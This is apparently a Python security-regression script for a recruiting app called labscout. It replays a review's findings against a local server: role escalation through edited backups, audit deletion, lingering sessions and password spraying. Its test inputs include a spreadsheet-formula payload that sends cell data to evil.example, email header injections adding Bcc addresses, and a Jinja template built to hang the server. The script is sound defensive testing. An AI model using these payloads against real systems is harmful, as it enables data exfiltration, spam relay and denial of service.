"""Replays the findings of issue 18's security review against a real `labscout serve` on loopback.

A temporary LABSCOUT_HOME gets a small research store (tests/world.py, or a copy of --store) and a team with one
account of each role; the server runs in its own process. Each finding is tried the way the review tried it,
over HTTP or with the `labscout` command as the role in question; a finding that still works is a hole. Every
answer is watched for 5xx. Only loopback traffic; the run stops by itself.

    .venv/bin/python bench/security_probe.py [--store PATH/research.duckdb] [--keep]

Prints one line per check and, last, `holes: N, server errors: M`; exits 1 when either is not 0.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path

import httpx

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))
from loopback import serve_command

PASSWORD = "probe password 1"
TEAM = {"executive": "exec@lab.example", "hr": "hr@lab.example", "recruiter": "rec@lab.example",
        "viewer": "view@lab.example"}
LABSCOUT = str(Path(sys.executable).with_name("labscout"))


class Probe:
    def __init__(self, home: Path, base: str) -> None:
        self.home, self.base = home, base
        self.holes: list[str] = []
        self.server_errors: list[str] = []
        self.env = {**os.environ, "LABSCOUT_HOME": str(home)}
        self.env.pop("LABSCOUT_USER", None)
        self.env.pop("LABSCOUT_DATABASE_URL", None)

    # -- plumbing -----------------------------------------------------------------------------------------
    def http(self, client: httpx.Client, method: str, path: str, **kw: object) -> httpx.Response:
        try:
            response = client.request(method, self.base + path, **kw)  # type: ignore[arg-type]
        except httpx.TransportError as exc:  # the server dropped the connection: as bad as a 500
            self.server_errors.append(f"{method} {path[:80]} -> {type(exc).__name__}")
            return httpx.Response(599, text=str(exc))
        if response.status_code >= 500:
            self.server_errors.append(f"{method} {path[:80]} -> {response.status_code}")
        return response

    def signed(self, role: str) -> tuple[httpx.Client, str]:
        client = httpx.Client(timeout=30)
        response = self.http(client, "POST", "/api/v1/session", json={"email": TEAM[role], "password": PASSWORD})
        assert response.status_code == 200, response.text
        return client, str(response.json()["csrf_token"])

    def cli(self, *args: str, role: str | None = None) -> subprocess.CompletedProcess[str]:
        extra = ["--as", TEAM[role]] if role else []
        return subprocess.run([LABSCOUT, *args, *extra], env=self.env, capture_output=True, text=True, timeout=120)

    def check(self, finding: str, hole: bool, detail: str = "") -> None:
        print(f"{'HOLE' if hole else 'ok  '}  {finding}" + (f"  ({detail})" if detail and hole else ""))
        if hole:
            self.holes.append(finding)

    def candidate(self, client: httpx.Client, csrf: str, **fields: object) -> int:
        made = self.http(client, "POST", "/api/v1/candidates", headers={"X-CSRF-Token": csrf},
                         json={"name": "Ada Lovel", "target_role": "researcher", **fields})
        assert made.status_code == 201, made.text
        return int(made.json()["id"])

    # -- the findings -------------------------------------------------------------------------------------
    def roles_cannot_be_rewritten(self) -> None:
        hr, hr_csrf = self.signed("hr")
        dump = self.home / "hr-backup.json"
        self.cli("pipeline", "backup", str(dump), role="hr")
        raw = dump.read_text()
        self.check("backups carry password hashes", "argon2" in raw or "password_hash" in raw)
        self.cli("user", "deactivate", TEAM["viewer"], role="executive")
        data = json.loads(dump.read_text())
        for row in data["tables"]["users"]:
            if row["email"] == TEAM["hr"]:
                row["role"] = "executive"
        data["tables"]["audit_log"] = [e for e in data["tables"]["audit_log"] if e["action"] != "deactivate"]
        dump.write_text(json.dumps(data))
        restored = self.cli("pipeline", "restore", str(dump), "--replace", role="hr")
        self.check("HR restores a backup", restored.returncode == 0, restored.stdout)
        unconfirmed = self.cli("pipeline", "restore", str(dump), "--replace", role="executive")
        self.check("a restore that promotes HR goes through unconfirmed", unconfirmed.returncode == 0)
        plan = self.http(hr, "PUT", "/api/v1/plan/roles/researcher", headers={"X-CSRF-Token": hr_csrf},
                         json={"slots": 3})
        deal = self.http(hr, "POST", "/api/v1/deals", headers={"X-CSRF-Token": hr_csrf},
                         json={"kind": "investment", "company": "X", "amount": 1})
        self.check("HR's open session acts as an executive", plan.status_code == 200 or deal.status_code == 201)
        # The executive may restore it, confirming the change: the audit still keeps what the file left out.
        self.cli("pipeline", "restore", str(dump), "--replace", "--confirm-users", role="executive")
        trail = self.cli("pipeline", "audit", "--entity", "user", "--json", role="executive")
        self.check("the audit lost the deactivation", '"deactivate"' not in trail.stdout)
        after = self.http(hr, "GET", "/api/v1/session").status_code
        self.check("sessions survive a restore that changed roles", after == 200)
        self.cli("user", "role", TEAM["hr"], "hr", role="executive")
        with sqlite3.connect(self.home / "pipeline.sqlite") as con:
            try:
                con.execute("DELETE FROM audit_log")
                deleted = True
            except sqlite3.DatabaseError:
                deleted = False
        self.check("the database lets the audit be deleted", deleted)
        self.cli("user", "reactivate", TEAM["viewer"], role="executive")
        second = self.cli("user", "add", "exec2@lab.example", "--name", "Second Exec", "--role", "executive",
                          "--password", PASSWORD, role="executive")
        assert second.returncode == 0, second.stderr
        off = self.cli("user", "deactivate", "exec2@lab.example", role="hr")
        self.check("HR deactivates an executive", off.returncode == 0)
        self.cli("user", "deactivate", "exec2@lab.example", role="executive")
        back = self.cli("user", "reactivate", "exec2@lab.example", role="executive")
        self.check("nothing reactivates a user", back.returncode != 0, back.stderr)
        self.cli("user", "deactivate", "exec2@lab.example", role="executive")
        last = self.cli("user", "deactivate", TEAM["executive"], role="executive")
        self.check("the last active executive can be removed", last.returncode == 0)

    def sessions_end(self) -> None:
        for how in ("api", "page"):
            client, csrf = self.signed("recruiter")
            cookie = client.cookies["labscout_session"]
            if how == "api":
                self.http(client, "DELETE", "/api/v1/session", headers={"X-CSRF-Token": csrf})
            else:
                self.http(client, "POST", "/logout", data={"csrf_token": csrf})
            again = self.http(httpx.Client(cookies={"labscout_session": cookie}), "GET", "/api/v1/candidates")
            self.check(f"the old cookie still works after signing out ({how})", again.status_code == 200)
        client, _ = self.signed("viewer")
        self.cli("user", "password", TEAM["viewer"], "--password", "changed password 1", role="executive")
        self.check("a password change leaves the session open",
                   self.http(client, "GET", "/api/v1/session").status_code == 200)
        self.cli("user", "password", TEAM["viewer"], "--password", PASSWORD, role="executive")
        hr, _ = self.signed("hr")
        listed = self.cli("user", "sessions", TEAM["hr"], "--json", role="executive")
        self.check("`user sessions` does not list an open session",
                   listed.returncode != 0 or not json.loads(listed.stdout))
        self.cli("user", "sessions", TEAM["hr"], "--end-all", role="executive")
        self.check("`user sessions --end-all` leaves the session open",
                   self.http(hr, "GET", "/api/v1/session").status_code == 200)

    def idle_sessions_end(self, base: str) -> None:
        client = httpx.Client(timeout=30)
        ok = client.post(base + "/api/v1/session", json={"email": TEAM["recruiter"], "password": PASSWORD})
        assert ok.status_code == 200, ok.text
        time.sleep(3.5)
        self.check("an idle session stays open", client.get(base + "/api/v1/candidates").status_code == 200)

    def personal_data(self) -> None:
        boss, csrf = self.signed("executive")
        evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        self.candidate(boss, csrf, name=evil)
        out = self.cli("pipeline", "export", role="recruiter")
        cells = [cell for row in csv.reader(io.StringIO(out.stdout)) for cell in row]
        self.check("CSV export keeps a formula", any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells))
        cid = self.candidate(boss, csrf, name="Zed Private", email="zed.private@example.org")
        deal = self.http(boss, "POST", "/api/v1/deals", headers={"X-CSRF-Token": csrf},
                         json={"kind": "acqui-hire", "company": "Tiny Lab", "amount": 1_000_000}).json()
        self.cli("deal", "add-person", str(deal["id"]), str(cid), "--note", "home 12 Elm Street, +41 79 555 01 23",
                 role="executive")
        erased = self.cli("pipeline", "erase", str(cid), "--reason", "request", "--yes", role="hr")
        assert erased.returncode == 0, erased.stderr
        with sqlite3.connect(self.home / "pipeline.sqlite") as con:
            tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
            everything = json.dumps([list(row) for t in tables for row in con.execute(f'SELECT * FROM "{t}"')],
                                    default=str)
        leaks = [v for v in ("Zed Private", "zed.private", "12 Elm Street", "555 01 23") if v in everything]
        self.check("erasure leaves personal data in the database", bool(leaks), ", ".join(leaks))

    def money(self) -> None:
        boss, csrf = self.signed("executive")
        hr, hr_csrf = self.signed("hr")
        cid = self.candidate(boss, csrf)
        soon, later = (date.today() + timedelta(days=20)).isoformat(), (date.today() + timedelta(days=60)).isoformat()
        yen = {"base": 150_000_000, "bonus": 10_000_000, "start_date": later, "expires_on": soon, "currency": "JPY"}
        unrated = self.http(hr, "POST", f"/api/v1/candidates/{cid}/offers", headers={"X-CSRF-Token": hr_csrf},
                            json=yen)
        self.check("an offer in a currency without a rate is taken", unrated.status_code == 201)
        self.cli("plan", "rate", "JPY", "0.0067", role="executive")
        offer = self.http(hr, "POST", f"/api/v1/candidates/{cid}/offers", headers={"X-CSRF-Token": hr_csrf},
                          json=yen).json()
        self.http(hr, "POST", f"/api/v1/offers/{offer['id']}/submit", headers={"X-CSRF-Token": hr_csrf}, json={})
        plan = self.http(boss, "GET", "/api/v1/plan").json()
        self.check("exposure adds yen as dollars", plan["exposure"] != 4_288_000, str(plan["exposure"]))
        other_hr = self.cli("user", "add", "hr2@lab.example", "--name", "Other HR", "--role", "hr", "--password",
                            PASSWORD, role="executive")
        assert other_hr.returncode == 0, other_hr.stderr
        approve = self.cli("offer", "approve", str(offer["id"]), "--as", "hr2@lab.example")
        self.check("HR approves a 640M-yen offer (4.3M dollars) below the executive", approve.returncode == 0)
        self.http(hr, "POST", f"/api/v1/offers/{offer['id']}/withdraw", headers={"X-CSRF-Token": hr_csrf},
                  json={"reason": "probe"})
        # One executive drafts, approves, sends and accepts a $26.8M offer alone.
        big = {"base": 5_000_000, "bonus": 1_000_000, "signing": 2_800_000, "equity_value": 0,
               "start_date": later, "expires_on": soon}
        made = self.http(boss, "POST", f"/api/v1/candidates/{cid}/offers", headers={"X-CSRF-Token": csrf},
                         json=big).json()
        self.http(boss, "POST", f"/api/v1/offers/{made['id']}/submit", headers={"X-CSRF-Token": csrf}, json={})
        alone = self.http(boss, "POST", f"/api/v1/offers/{made['id']}/approve", headers={"X-CSRF-Token": csrf},
                          json={})
        self.check("one executive approves the $26.8M offer they drafted", alone.status_code == 200)
        rec, _ = self.signed("recruiter")
        seen = self.http(rec, "GET", f"/api/v1/offers/{made['id']}").json()
        self.check("a recruiter learns the offer is above the threshold", seen.get("needs_executive") is not None)
        page = self.http(rec, "GET", f"/candidates/{cid}").text
        self.check("a recruiter's page says 'above the threshold'", "above the threshold" in page)
        deal = self.http(boss, "POST", "/api/v1/deals", headers={"X-CSRF-Token": csrf},
                         json={"kind": "acqui-hire", "company": "Hidden Startup", "amount": 5}).json()
        self.cli("deal", "add-person", str(deal["id"]), str(cid), role="executive")
        timeline = self.http(rec, "GET", f"/api/v1/candidates/{cid}/timeline").text
        deals = self.http(rec, "GET", "/api/v1/deals").status_code
        self.check("a recruiter sees deal names in a timeline while /deals is 403",
                   deals == 403 and "Hidden Startup" in timeline + self.http(rec, "GET", "/api/v1/feed").text)

    def inputs(self) -> None:
        rec, csrf = self.signed("recruiter")
        for query in ("graph --", "-graph"):
            found = self.http(rec, "GET", "/api/v1/search", params={"q": query})
            page = self.http(rec, "GET", "/search", params={"q": query})
            # Issue 16's search reads every query as words (no syntax to get wrong): results or a message,
            # never a server error, is what the issue asks.
            answered = {found.status_code, page.status_code} <= {200, 400} and (
                found.status_code == 200 or "query" in found.json()["detail"])
            self.check(f"search {query!r} answers neither results nor a message", not answered,
                       f"{found.status_code}/{page.status_code}")
        huge = "99999999999999999999999"
        statuses = {self.http(rec, "GET", path).status_code for path in (
            f"/candidates/{huge}", f"/api/v1/candidates/{huge}", f"/api/v1/offers/{huge}")}
        self.check("ids beyond range are not 404", statuses != {404}, str(statuses))
        token = self.http(rec, "POST", "/api/v1/candidates", headers={"X-CSRF-Token": ("é" * 32).encode()},
                          json={"name": "X", "target_role": "y"})  # type: ignore[dict-item]
        cookie = self.http(httpx.Client(), "GET", "/api/v1/candidates",
                           headers={"Cookie": ("labscout_session=" + "é" * 43).encode()})  # type: ignore[dict-item]
        self.check("a non-ASCII CSRF token or cookie is not refused", token.status_code != 403
                   or cookie.status_code != 401)
        cid = self.candidate(rec, csrf, email="ada@example.org")
        for to, subject in (("a@x.example, b@y.example", "Hi"), ("a@x.example\r\nBcc: s@evil.example", "Hi"),
                            ("a@x.example", "Hi\r\nBcc: s@evil.example")):
            sent = self.http(rec, "POST", f"/candidates/{cid}/email",
                             data={"to": to, "subject": subject, "body": "Dear Ada", "csrf_token": csrf})
            self.check(f"outreach takes To {to!r} / subject {subject!r}", sent.status_code != 422)
        note = self.http(rec, "POST", f"/candidates/{cid}/notes", data={"text": "x" * 900_000, "csrf_token": csrf})
        self.check("a 900,000-character note is stored from the form", note.status_code in (200, 303))
        tags = self.http(rec, "POST", "/api/v1/candidates", headers={"X-CSRF-Token": csrf},
                         json={"name": "T", "target_role": "r", "tags": [str(n) for n in range(10_000)]})
        attendees = self.http(rec, "POST", f"/candidates/{cid}/activities", data={
            "kind": "meeting", "subject": "dinner", "place": "Nopa", "csrf_token": csrf,
            "attendees": ",".join(f"p{n}" for n in range(5_000))})
        self.check("tag and attendee lists are unbounded", tags.status_code == 201 or attendees.status_code == 303)
        body = self.home / "slow.j2"
        body.write_text("{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}")
        started = time.perf_counter()
        saved = self.cli("pipeline", "templates", "--save", "slow", "--subject", "Hi", "--body-file", str(body),
                         role="recruiter")
        took = time.perf_counter() - started
        self.check("a template with nested loops is saved or ties up a thread", saved.returncode == 0 or took > 10,
                   f"{took:.1f} s")

    def sign_in_defences(self) -> None:
        # From another loopback address, so that a lock-out of this one leaves the other checks alone.
        def elsewhere(address: str) -> httpx.Client:
            return httpx.Client(timeout=30, transport=httpx.HTTPTransport(local_address=address))

        spray = elsewhere("127.0.0.2")
        for n in range(20):  # one wrong password for each of 20 accounts, the attacker's own sign-in in between
            self.http(spray, "POST", "/api/v1/session", json={"email": f"guess{n}@lab.example", "password": "bad pw 1"})
            if n % 5 == 4:
                self.http(spray, "POST", "/api/v1/session", json={"email": TEAM["recruiter"], "password": PASSWORD})
        blocked = self.http(spray, "POST", "/api/v1/session", json={"email": "guess99@lab.example", "password": "x"})
        self.check("20 wrong passwords from one address, a success in between: no lock-out",
                   blocked.status_code != 429)
        self.check("the lock-out has no 429 with Retry-After",
                   blocked.status_code != 429 or "retry-after" not in blocked.headers)
        guess = elsewhere("127.0.0.3")
        for n in range(6):
            self.http(guess, "POST", "/api/v1/session", json={"email": TEAM["viewer"], "password": f"bad {n} pw"})
        other = self.http(guess, "POST", "/api/v1/session", json={"email": TEAM["hr"], "password": PASSWORD})
        self.check("the lock-out locks every account behind the address", other.status_code != 200)
        cross = self.http(elsewhere("127.0.0.4"), "POST", "/api/v1/session",
                          headers={"Origin": "https://evil.example"}, json={"email": TEAM["hr"], "password": PASSWORD})
        self.check("sign-in accepts a cross-site Origin", cross.status_code == 200)
        boss, _ = self.signed("executive")
        missing = []
        for path in ("/", "/offers", "/deals", "/board", "/search?q=diffusion", "/login", "/flows"):
            headers = self.http(boss, "GET", path).headers
            csp = headers.get("content-security-policy", "")
            if "frame-ancestors 'none'" not in csp or "unsafe-inline" in csp or "script-src 'self'" not in csp \
                    or headers.get("cache-control") != "no-store" or headers.get("x-frame-options") != "DENY":
                missing.append(path)
        self.check("pages without security headers", bool(missing), ", ".join(missing))


def make_home(home: Path, store: Path | None) -> None:
    home.mkdir(parents=True)
    if store is not None:
        shutil.copyfile(store, home / "research.duckdb")
    else:
        from labscout.research.build import build_store
        from world import write_world

        build_store([write_world(home / "sources")], home / "research.duckdb")
    env = {**os.environ, "LABSCOUT_HOME": str(home)}
    env.pop("LABSCOUT_DATABASE_URL", None)
    for n, (role, email) in enumerate(TEAM.items()):
        extra = [] if n == 0 else ["--as", TEAM["executive"]]
        done = subprocess.run([LABSCOUT, "user", "add", email, "--name", f"{role.title()} Probe", "--role", role,
                               "--password", PASSWORD, *extra], env=env, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--store", type=Path, help="a research.duckdb to copy (default: the small test world)")
    parser.add_argument("--keep", action="store_true", help="keep the temporary home and print where it is")
    args = parser.parse_args()
    root = Path(tempfile.mkdtemp(prefix="labscout-probe-"))
    started = time.perf_counter()
    try:
        home = root / "home"
        make_home(home, args.store)
        with serve_command(home) as base:
            probe = Probe(home, base)
            checks: list[Callable[[], None]] = [probe.sessions_end, probe.sign_in_defences, probe.inputs,
                                                probe.money, probe.personal_data, probe.roles_cannot_be_rewritten]
            for check in checks:
                try:
                    check()
                except Exception as exc:  # a finding that breaks the probe itself is a hole too
                    probe.check(f"{check.__name__} could not finish", True, f"{type(exc).__name__}: {exc}"[:200])
        with serve_command(home, LABSCOUT_SESSION_IDLE="2") as base:
            try:
                probe.idle_sessions_end(base)
            except Exception as exc:
                probe.check("idle_sessions_end could not finish", True, f"{type(exc).__name__}: {exc}"[:200])
    finally:
        if args.keep:
            print(f"home kept at {root}")
        else:
            shutil.rmtree(root, ignore_errors=True)
    for error in probe.server_errors:
        print(f"server error: {error}")
    print(f"holes: {len(probe.holes)}, server errors: {len(probe.server_errors)} "
          f"({time.perf_counter() - started:.0f} s)")
    return 1 if probe.holes or probe.server_errors else 0


if __name__ == "__main__":
    sys.exit(main())
